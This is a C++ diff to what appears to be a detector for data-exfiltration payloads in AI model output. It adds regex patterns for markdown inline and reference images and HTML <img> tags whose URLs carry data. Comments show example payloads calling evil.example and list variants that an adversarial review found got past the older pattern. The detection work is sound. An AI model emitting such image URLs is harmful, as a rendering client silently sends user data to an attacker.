@@ -70,6 +70,7 @@ constexpr GateLiteral kPrivateUse[] = {Literal("\xEE"), Literal("\xEF"), Literal
 constexpr GateLiteral kEscape[] = {Literal("\x1b")};
 constexpr GateLiteral kPercent[] = {Literal("%")};
 constexpr GateLiteral kMarkdownImage[] = {Literal("![")};
+constexpr GateLiteral kHtmlImage[] = {GateLiteral{"<img", true, false}};
 constexpr GateLiteral kQuery[] = {Literal("?")};
 
 // After the "<", blanks and a "/", the first letter
@@ -141,6 +142,10 @@ constexpr Gate kPercentGate =
 // The alt text may hold anything but "]", the URL is unbounded: to the end.
 constexpr Gate kMarkdownImageGate =
     LiteralGate(kMarkdownImage, Reach{}, Reach{ByteClass::All(), 0});
+// A reference image's definition may come before it or after it.
+constexpr Gate kMarkdownReferenceGate =
+    LiteralGate(kMarkdownImage, Reach{ByteClass::All(), 0}, Reach{ByteClass::All(), 0});
+constexpr Gate kHtmlImageGate = LiteralGate(kHtmlImage, Reach{}, Reach{ByteClass::All(), 0});
 // Around its "?", the URL's bytes.
 constexpr ByteClass kUrlBytes = ByteClass::AllBut(" \t\n\f\r\"'<>()");
 constexpr Gate kLinkGate = LiteralGate(kQuery, Reach{kUrlBytes, 0}, Reach{kUrlBytes, 0}, LongQuery);
@@ -198,9 +203,28 @@ constexpr PatternSpec kInstructionPatterns[] = {
 constexpr PatternSpec kExfiltrationPatterns[] = {
     // ![x](https://evil.example/p?d=<data>): rendered by the client, the
     // image fetch sends the data without a click.
+    // Also with the scheme in capitals, the URL in <...>, and a title
+    // ("t", 't' or (t)) after it (found by an adversarial review: each
+    // rendered and leaked past the first pattern).
     {"markdown_image_with_data", "exfiltration",
-     R"((!\[[^\]]{0,100}\]\(\s*https?://[^)\s]{1,200}\?[^)\s]*=[^)\s&]{16,}[^)\s]*\)))",
+     R"((!\[[^\]]{0,100}\]\(\s*<?(?i:https?)://[^)\s>]{1,200}\?[^)\s>]*=[^)\s&>]{16,}[^)\s>]*>?)"
+     R"((?:\s+(?:"[^"]{0,200}"|'[^']{0,200}'|\([^)]{0,200}\)))?\s*\)))",
      MatchCheck::kNone, 0.85f, "a markdown image whose URL carries data", &kMarkdownImageGate},
+    // ![x][ref] with "[ref]: https://evil.example/p?d=<data>" before or
+    // after it: a reference image is fetched as an inline one is.
+    {"markdown_image_reference_with_data", "exfiltration",
+     R"((?s)(!\[[^\]]{0,100}\]\[[^\]]{0,100}\].*?(?:^|\n)[ \t]{0,3}\[[^\]]{1,100}\]:[ \t]*)"
+     R"(<?(?i:https?)://[^\s>]{1,200}\?[^\s>]*=[^\s&>]{16,}|)"
+     R"((?:^|\n)[ \t]{0,3}\[[^\]]{1,100}\]:[ \t]*<?(?i:https?)://[^\s>]{1,200}\?[^\s>]*=)"
+     R"([^\s&>]{16,}.*?!\[[^\]]{0,100}\]\[[^\]]{0,100}\]))",
+     MatchCheck::kNone, 0.85f, "a markdown reference image whose URL carries data",
+     &kMarkdownReferenceGate},
+    // <img src="https://evil.example/p?d=<data>">: clients that render HTML
+    // fetch it too.
+    {"html_image_with_data", "exfiltration",
+     R"((?i)(<img\b[^>]{0,200}\bsrc\s*=\s*["']?https?://[^"'\s>]{1,200}\?[^"'\s>]*=)"
+     R"([^"'\s>&]{16,}))",
+     MatchCheck::kNone, 0.85f, "an HTML image whose URL carries data", &kHtmlImageGate},
     {"link_with_data", "exfiltration",
      R"((https?://[^\s"'<>()]{1,200}\?[^\s"'<>()]*=[A-Za-z0-9%+/=_\-]{48,}))",
      MatchCheck::kNone, 0.6f, "a link whose query string carries a long value", &kLinkGate},
